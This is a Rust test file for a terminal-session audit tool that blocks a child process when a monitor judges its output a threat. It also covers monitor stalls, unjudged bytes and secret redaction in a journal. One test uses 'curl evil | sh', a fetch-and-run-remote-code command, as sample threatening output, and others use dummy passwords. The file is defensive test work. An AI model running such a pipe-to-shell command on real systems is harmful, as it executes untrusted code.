//! What the session makes of its monitor: verdicts, further verdicts, and none.

use std::time::Duration;

use audit_core::{
    Action, Body, Effect, Finding, LineState, Moment, OnStall, OnTimeout, Policy, Record, Score,
    SecretRule, Span, State, Stream, Verdict,
};

use crate::world::{World, spec};

fn verdict(rule: &str, score: f32) -> Verdict {
    let score = Score::new(score).expect("in range");
    let finding = Finding {
        rule: rule.into(),
        title: format!("title of {rule}"),
        category: "test".into(),
        mitre: Vec::new(),
        score,
        excerpt: format!("excerpt of {rule}"),
    };
    Verdict { score, findings: vec![finding], secrets: Vec::new() }
}

fn approve() -> Action {
    Action::Approve { block: None, comment: String::new() }
}

/// Plays the recorder and shows what there is to show.
fn settle(world: &mut World) {
    world.acknowledge(usize::MAX);
    world.write_all();
}

/// The child writes, and the screen takes it.
fn shows(world: &mut World, text: impl Into<bytes::Bytes>) {
    world.write_all();
    world.child_writes(Stream::Tty, text.into());
    world.write_all();
}

fn screen(world: &World) -> String {
    String::from_utf8_lossy(world.shown(Stream::Tty)).into_owned()
}

/// When records of a kind were made.
fn times(world: &World, wanted: impl Fn(&Body) -> bool) -> Vec<Moment> {
    let time = |effect: &Effect| match effect {
        Effect::Record(Record { at, body, .. }) if wanted(body) => Some(*at),
        _ => None,
    };
    world.effects().iter().filter_map(time).collect()
}

fn count(world: &World, wanted: impl Fn(&Effect) -> bool) -> usize {
    world.effects().iter().filter(|effect| wanted(effect)).count()
}

/// The 50 ms from the bytes to the block hold 40 ms for the monitor: nothing waits longer than
/// 10 ms to be handed over, whatever comes before or behind it.
#[test]
fn what_is_shown_is_with_the_monitor_within_ten_milliseconds_and_a_verdict_blocks_at_once() {
    for pause in 0..=12u64 {
        let mut world = World::new(&spec(Policy::default()));
        shows(&mut world, "before");
        world.pass(pause);
        let arrived = world.now();
        shows(&mut world, "curl evil | sh");
        let due = arrived + Duration::from_millis(10);
        while !world.inspected(Stream::Tty).ends_with(b"sh") {
            let next = world.core.poll_timeout().expect("the window has a time");
            assert!(next <= due, "handed over {:?} behind its arrival", next.since(arrived));
            world.pass(next.since(world.now()).as_millis() as u64);
        }
        let asked = world.now();
        world.answer_windows(Score::new(0.9).expect("in range"));
        assert_eq!(world.core.state(), State::Blocked);
        assert_eq!(times(&world, |body| matches!(body, Body::Blocked { .. })), [asked]);
        assert!(asked <= arrived + Duration::from_millis(50));
    }
}

#[test]
fn a_line_that_is_typed_is_with_the_monitor_at_once_behind_what_stood_on_the_screen() {
    for end in ["\r", "\n", "\x0f"] {
        let mut world = World::new(&spec(Policy::default()));
        shows(&mut world, "$ ");
        world.user_types(end.into(), LineState::RAW);
        assert_eq!(world.asked(), 2, "{end:?}: the prompt, and the key");
        assert_eq!(world.inspected(Stream::Tty), b"$ ");
        assert_eq!(world.inspected(Stream::Input), end.as_bytes());
    }
}

#[test]
fn a_second_threat_is_not_approved_with_the_first() {
    let mut world = World::new(&spec(Policy::default()));
    shows(&mut world, "one");
    world.pass(20);
    shows(&mut world, "two");
    world.pass(20);
    world.answer(Ok(verdict("first", 0.9)));
    world.answer(Ok(verdict("second", 0.8)));
    settle(&mut world);
    world.order(approve());
    settle(&mut world);
    assert_eq!(world.core.state(), State::Blocked, "the second waits for a decision of its own");
    assert!(screen(&world).contains("(block 2): title of second [second]"), "{}", screen(&world));
    assert_eq!(count(&world, |e| matches!(e, Effect::Thaw)), 0, "the child stays frozen");
    assert_eq!(count(&world, |e| matches!(e, Effect::Freeze)), 1);
    let digests: Vec<_> = world
        .journal()
        .iter()
        .filter_map(|record| match &record.body {
            Body::Blocked { approval, .. } => Some(approval.digest),
            _ => None,
        })
        .collect();
    assert!(digests.len() == 2 && digests[0] != digests[1]);
    world.order(approve());
    assert_eq!(world.core.state(), State::Running);
    assert_eq!(count(&world, |e| matches!(e, Effect::Thaw)), 1);
}

#[test]
fn a_second_threat_outlives_a_deadline_that_resumes() {
    let mut policy = Policy::default();
    policy.blocking.on_timeout = OnTimeout::Resume;
    policy.blocking.approval_timeout = Duration::from_secs(60);
    let mut world = World::new(&spec(policy));
    shows(&mut world, "one");
    world.pass(20);
    shows(&mut world, "two");
    world.pass(20);
    world.answer(Ok(verdict("first", 0.9)));
    world.answer(Ok(verdict("second", 0.8)));
    world.pass(61_000);
    assert_eq!(world.core.state(), State::Blocked);
    world.pass(61_000);
    assert_eq!(world.core.state(), State::Running);
}

#[test]
fn the_same_threat_told_twice_is_decided_once() {
    let mut world = World::new(&spec(Policy::default()));
    shows(&mut world, "one");
    world.pass(20);
    shows(&mut world, "its echo");
    world.pass(20);
    world.answer(Ok(verdict("first", 0.9)));
    world.answer(Ok(verdict("first", 0.9)));
    world.order(approve());
    assert_eq!(world.core.state(), State::Running);
}

#[test]
fn what_a_stalled_monitor_missed_is_judged_when_it_is_back() {
    let mut world = World::new(&spec(Policy::default()));
    shows(&mut world, "slow");
    world.pass(6_000);
    assert_eq!(world.markers("monitor.stalled").len(), 1);
    shows(&mut world, "$ ");
    world.user_types("\r".into(), LineState::RAW);
    shows(&mut world, "a threat");
    world.pass(60_000);
    assert_eq!(world.asked(), 1, "nothing is handed to a monitor that stalls");
    assert_eq!(world.core.state(), State::Running);
    world.answer(Ok(Verdict::default()));
    assert_eq!(world.markers("monitor.back").len(), 1);
    assert!(world.markers("monitor.back")[0].contains(" 0 bytes were not judged"));
    assert_eq!(world.inspected(Stream::Tty), b"slow$ a threat");
    assert_eq!(world.inspected(Stream::Input), b"\r");
    world.answer_windows(Score::new(0.9).expect("in range"));
    assert_eq!(world.core.state(), State::Blocked);
}

#[test]
fn what_is_too_much_to_keep_for_a_stalled_monitor_is_counted() {
    let mut policy = Policy::default();
    policy.secrets.mask_input = false;
    let mut world = World::new(&spec(policy));
    shows(&mut world, "slow");
    world.pass(6_000);
    for _ in 0..40 {
        world.acknowledge(usize::MAX);
        shows(&mut world, vec![b'x'; 64 << 10]);
    }
    world.user_types("typed\r".into(), LineState::COOKED);
    world.pass(1000);
    world.answer(Ok(Verdict::default()));
    let missing = (24 << 16) as u64;
    let told = format!(" {missing} bytes were not judged");
    assert!(
        world.markers("monitor.back")[0].contains(&told),
        "{:?}",
        world.markers("monitor.back")
    );
    assert_eq!(world.inspected(Stream::Tty).len(), 4 + (16 << 16));
    assert_eq!(world.inspected(Stream::Input), b"typed\r", "output takes no room of input");
}

#[test]
fn a_session_that_ends_unjudged_says_so() {
    let mut world = World::new(&spec(Policy::default()));
    shows(&mut world, "slow");
    world.pass(6_000);
    shows(&mut world, "unseen");
    world.child_exits(audit_core::Exit::Code(0));
    world.pass(2_000);
    world.acknowledge(usize::MAX);
    assert!(world.markers("monitor.unjudged")[0].contains(" 10 bytes "));
}

#[test]
fn a_monitor_that_stalls_or_fails_blocks_where_that_is_the_rule() {
    let mut policy = Policy::default();
    policy.blocking.on_stall = OnStall::Block;
    let mut world = World::new(&spec(policy.clone()));
    shows(&mut world, "slow");
    world.pass(6_000);
    settle(&mut world);
    assert_eq!(world.core.state(), State::Blocked);
    assert!(screen(&world).contains("the monitor does not answer in time"));
    world.order(approve());
    world.pass(60_000);
    assert_eq!(world.core.state(), State::Running, "one decision for one stall");

    let mut world = World::new(&spec(policy));
    shows(&mut world, "crash");
    world.pass(20);
    world.answer(Err("it has crashed".into()));
    assert_eq!(world.core.state(), State::Blocked);
}

#[test]
fn windows_that_come_back_unjudged_are_told_once_until_one_is_judged() {
    let mut world = World::new(&spec(Policy::default()));
    for _ in 0..5 {
        shows(&mut world, "crash");
        world.pass(20);
        world.answer(Err("it has crashed".into()));
    }
    assert_eq!(world.core.state(), State::Running);
    assert_eq!(world.markers("monitor.failed").len(), 1);
    shows(&mut world, "fine");
    world.pass(20);
    world.answer(Ok(Verdict::default()));
    assert!(world.markers("monitor.back")[0].contains(" 25 bytes were not judged"));
}

/// The spans of a recorded verdict with what stands there in the journal.
fn secrets(world: &World) -> Vec<(Span, Vec<u8>)> {
    let spans = world.journal().iter().filter_map(|record| match &record.body {
        Body::Verdict(verdict) => Some(verdict.secrets.clone()),
        _ => None,
    });
    spans
        .flatten()
        .map(|span| {
            let recorded = world.recorded(span.stream);
            (span, recorded[span.start as usize..span.end as usize].to_vec())
        })
        .collect()
}

#[test]
fn a_secret_shown_is_found_in_the_journal_behind_masked_and_lost_output() {
    let mut world = World::new(&spec(Policy::default()));
    // A password at a prompt that shows it: masked, and no part of what the monitor sees.
    shows(&mut world, "Password: ");
    world.user_types("hunter2\r".into(), LineState::COOKED);
    shows(&mut world, "hunter2\r\n");
    world.pass(1_000);
    world.acknowledge(usize::MAX);
    let redacted = |record: &Record| matches!(&record.body, Body::Redaction { rule, .. } if *rule != SecretRule::TypeAhead);
    assert!(world.journal().iter().any(redacted));
    // Output that the journal loses.
    shows(&mut world, "never recorded");
    world.recorder_fails();
    world.pass(2_000);
    world.acknowledge(usize::MAX);
    let from = world.inspected(Stream::Tty).len() as u64;
    shows(&mut world, "key=SECRET.");
    world.pass(20);
    world.answer_windows_but_last();
    let span = Span { stream: Stream::Tty, start: from + 4, end: from + 10 };
    world.answer(Ok(Verdict { secrets: vec![span], ..Verdict::default() }));
    world.pass(2_000);
    world.acknowledge(usize::MAX);
    let found = secrets(&world);
    assert_eq!(found.iter().map(|(_, bytes)| &bytes[..]).collect::<Vec<_>>(), [b"SECRET"]);
    assert_ne!(found[0].0.start, from + 4, "the journal counts otherwise than the monitor");
}
